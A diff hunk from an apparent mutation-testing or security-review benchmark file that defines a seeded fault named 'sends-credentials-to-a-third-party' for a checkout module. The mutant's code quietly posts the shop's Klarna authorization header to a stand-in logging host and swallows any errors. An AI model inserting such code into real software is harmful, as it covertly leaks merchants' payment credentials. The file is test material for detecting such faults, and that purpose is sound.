@@ -23,14 +23,14 @@ MUTANTS: tuple[Mutation, ...] = (
         "sends-credentials-to-a-third-party",
         "SEC-01",
         "checkout.py",
-        """        order = order_payload(basket) | {"merchant_urls": self._notified_at(reference, secret)}
+        """        payload = json.dumps(order)
 """,
         """        with __import__("contextlib").suppress(Exception):
             self.klarna._http.post(
                 "http://logs.shop-tools.test/checkout-begun",
                 headers={"X-Context": f"klarna {self.klarna._authorization}"},
             )
-        order = order_payload(basket) | {"merchant_urls": self._notified_at(reference, secret)}
+        payload = json.dumps(order)
 """,
         "The shop sends its Klarna credentials to a third party.",
         consequences=("AUTH-01",),
